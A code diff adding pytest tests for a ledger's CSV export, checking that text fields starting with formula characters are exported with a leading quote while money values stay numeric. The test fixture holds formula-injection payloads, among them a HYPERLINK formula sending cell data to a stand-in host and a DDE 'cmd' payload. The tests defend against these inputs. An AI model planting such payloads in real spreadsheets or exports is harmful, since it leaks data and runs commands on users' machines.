@@ -163,3 +163,44 @@ def test_worked_fee_example_of_the_documentation(store: LedgerStore) -> None:
         "fee_rate": "0.10",
         "fee_usd": "0.003139",
     }
+
+
+FORMULAS = {
+    "agent": '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "workflow": "+1+cmd|' /C calc'!A0",
+    "step": "-2+3",
+    "run": "@SUM(1,1)",
+    "requested_model": "\tgpt",
+    "error_type": "\r=1",
+}
+
+
+def test_a_formula_in_any_text_field_is_exported_as_text(store: LedgerStore) -> None:
+    losing = make_row(
+        1,
+        tenant="=evil()",
+        baseline_price_output=Decimal("0"),
+        baseline_price_input=Decimal("0"),
+        **FORMULAS,
+    )
+    store.write_batch([losing])
+    [row] = _parse(b"".join(iter_csv(store, start=NOV, end=DEC)))
+    for name, text in {**FORMULAS, "tenant": "=evil()"}.items():
+        assert row[name] == "'" + text, name
+    # Money stays numeric, the negative savings included: no quote before its sign.
+    assert losing.savings is not None and losing.savings < 0
+    assert row["savings_usd"].startswith("-")
+    assert Decimal(row["savings_usd"]) * 1_000_000 == losing.savings
+    assert Decimal(row["cost_usd"]) * 1_000_000 == losing.cost
+    assert row["prompt_tokens"] == str(losing.prompt_tokens)
+    [total] = _parse(
+        b"".join(summary_csv(summary(store, start=NOV, end=DEC, fee_rate=Decimal("0.1"))))
+    )
+    assert total["tenant"] == "'=evil()"
+    assert Decimal(total["savings_usd"]) * 1_000_000 == losing.savings
+
+
+def test_ordinary_text_is_exported_unchanged(store: LedgerStore) -> None:
+    store.write_batch([make_row(1, agent="support-bot", step="a=b", run="x-1")])
+    [row] = _parse(b"".join(iter_csv(store, start=NOV, end=DEC)))
+    assert (row["agent"], row["step"], row["run"]) == ("support-bot", "a=b", "x-1")
